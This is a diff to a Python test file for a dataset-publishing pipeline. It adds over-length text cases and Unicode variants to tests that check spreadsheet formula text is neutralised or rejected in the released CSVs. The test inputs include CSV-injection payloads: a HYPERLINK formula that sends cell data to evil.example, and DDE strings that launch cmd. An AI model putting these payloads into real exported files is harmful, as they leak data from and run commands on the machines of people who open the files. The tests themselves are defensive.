@@ -355,6 +355,9 @@ VALUE_CASES = (
     # a second file's byte order mark after `cat a.jsonl b.jsonl` (was only "not JSON")
     HostileValue("bom-mid-file", lambda r, t, n: b"\xef\xbb\xbf" + _dumps(r), reasons.BAD_ENCODING,
                  "a byte order mark (U+FEFF) at column 1: only a file's first bytes may hold one"),
+    # issue 45: NLVR2 accepted a sentence of 100,000 characters (free_text.MAX_TEXT_CHARS)
+    HostileValue("text-of-100000-characters", lambda r, t, n: _dumps({**r, t: "a dog " * 16_666 + "abcd"}),
+                 reasons.TOO_LONG, "field '{t}' holds 100,000 characters, more than the 16,384 a text may hold"),
 )
 
 
@@ -601,7 +604,22 @@ def test_a_vote_list_held_as_a_string_is_decoded_under_the_same_rules():
 # crowd answer cell is a reject wherever the row comes from (JSON inputs: VALUE_CASES).
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+cmd|' /C calc'!A0",
-            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
+            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+            # issue 45: BD2BB published these; a spreadsheet reads each as its ASCII form
+            "\uff1dSUM(1)", "\u200b=SUM(1)", "\u2060+1+1", "\ufeff@SUM(1)", "\u00ad-1+1", "\ufe62cmd"]
+FORMULA_IDS = ["equals", "plus", "at", "minus", "tab", "cr", "fullwidth-equals", "zero-width-space",
+               "word-joiner", "byte-order-mark", "soft-hyphen", "small-plus"]
+
+
+def _formula_detail(field: str, text: str) -> str:
+    """What `formula_text` says of `text` (its start as written, and as read when the two
+    differ)."""
+    import unicodedata
+    hidden = len(text) - len(text.lstrip("\u200b\u2060\ufeff\u00ad"))
+    written, read = text[:hidden + 1], unicodedata.normalize("NFKC", text[hidden])
+    reads = "" if written == read else f", which a spreadsheet reads as {read!r}"
+    return (f"field '{field}' begins with {written!r}{reads}: a spreadsheet opening the CSV it is "
+            "published in would run it as a formula")
 
 
 def _retrieve_task_csv(text: str) -> List[str]:
@@ -648,22 +666,22 @@ def _csv_answer_row(cell: str):
             if hasattr(out, "tag") else "passed" for out in check.process(row)]
 
 
-@pytest.mark.parametrize("formula", FORMULAS, ids=["equals", "plus", "at", "minus", "tab", "cr"])
+@pytest.mark.parametrize("formula", FORMULAS, ids=FORMULA_IDS)
 @pytest.mark.parametrize("where", ["imagecode-retrieve-tasks-csv", "bd2bb-intention", "bd2bb-action",
                                    "bd2bb-review-sheet", "bd2bb-compat-csv"])
 def test_text_a_spreadsheet_would_run_is_neutralised_or_rejected(where, formula):
     """Issue 35: a BD2BB intention `=HYPERLINK(...)` passed every filter into compat/*.csv;
     ImageCoDe descriptions beginning with `=`, `+` or `@` went verbatim into
-    crowd/retrieve_tasks.csv, which requesters open in a spreadsheet."""
+    crowd/retrieve_tasks.csv, which requesters open in a spreadsheet. Issue 45: BD2BB
+    published `＝SUM(1)` (fullwidth) and a zero-width space before `=`: text is judged
+    after NFKC, behind format characters, in every CSV the release writes."""
     if where == "imagecode-retrieve-tasks-csv":   # the JSON Lines file keeps the text
         assert _retrieve_task_csv(formula) == ["'" + formula, formula, "false", '["w1", "w2"]']
         assert _retrieve_task_csv("A dog, left.")[0] == "A dog, left."   # other cells as they were
     elif where in ("bd2bb-intention", "bd2bb-action"):
         field = where.split("-")[1]
         problem = _bd2bb_tuple(field, "  " + formula)   # texts are stripped before publishing
-        assert problem == (reasons.FORMULA_TEXT, f"field '{field}' begins with {formula.strip()[:1]!r}: "
-                           "a spreadsheet opening the CSV it is published in would run it as a "
-                           "formula"), problem
+        assert problem == (reasons.FORMULA_TEXT, _formula_detail(field, formula.strip())), problem
         kept = _bd2bb_tuple(field, "want to relax - and " + formula)   # only a text's start counts
         assert getattr(kept, field) == "want to relax - and " + formula.rstrip("\r"), kept
     elif where == "bd2bb-review-sheet":
@@ -942,13 +960,20 @@ def test_nlvr2s_local_similar_checkpoint_is_checked_on_the_driver_under_its_own_
         model_identities(config)
 
 
-@pytest.mark.parametrize("fmt", ["csv", "jsonl"])
-def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, tmp_path):
+@pytest.mark.parametrize("fmt, chars, reason, says", [
+    ("csv", 16_385, reasons.TOO_LONG, "column 'text' holds 16,385 characters, more than the 16,384 a text may hold"),
+    ("jsonl", 16_385, reasons.TOO_LONG, "field 'text' holds 16,385 characters, more than the 16,384 a text may hold"),
+    ("csv", 131_073, reasons.BAD_FIELD, "a cell of more than 131,072 characters"),
+    ("jsonl", 131_073, reasons.TOO_LONG, "field 'text' holds 131,073 characters"),
+])
+def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, chars, reason, says, tmp_path):
     """Issue 35: a cell over 131,072 characters hit Python's csv limit, undocumented
-    (`malformed_row` 'not CSV'); now one bound for both formats, MAX_CELL_CHARS."""
-    from transforms.crowd.answer_files import MAX_CELL_CHARS, AnswerRow, parse_file
+    (`malformed_row` 'not CSV'). Issue 45: every free text, a cell of either format too,
+    is held to free_text.MAX_TEXT_CHARS (too_long); a CSV cell longer than the csv
+    module reads is bad_field."""
+    from transforms.crowd.answer_files import AnswerRow, parse_file
     from transforms.crowd.answer_rows import _CheckRowFn
-    long = "a" * (MAX_CELL_CHARS + 1)
+    long = "a" * chars
     path = tmp_path / f"descriptions.{fmt}"
     if fmt == "csv":
         path.write_text(f"set_name,text,worker\ns1,ok,w1\ns2,{long},w2\n")
@@ -961,8 +986,8 @@ def test_an_answer_cell_over_the_bound_is_a_reject_naming_its_line(fmt, tmp_path
     found = [(getattr(o, "value", o).line, getattr(o, "value", o).reason, getattr(o, "value", o).detail)
              for row in rows if isinstance(row, AnswerRow)
              for o in check.process(row) if getattr(o, "tag", None) == REJECTS]
-    assert len(found) == 1 and found[0][:2] == (2 if fmt == "jsonl" else 3, reasons.BAD_FIELD), found
-    assert f"{MAX_CELL_CHARS:,}" in found[0][2] and "an answer cell may hold" in found[0][2], found
+    assert len(found) == 1 and found[0][:2] == (2 if fmt == "jsonl" else 3, reason), found
+    assert says in found[0][2], found
 
 
 @pytest.mark.parametrize("version", ["01.0.0", "1.0.0+build.5", "1.0.\u0663"])
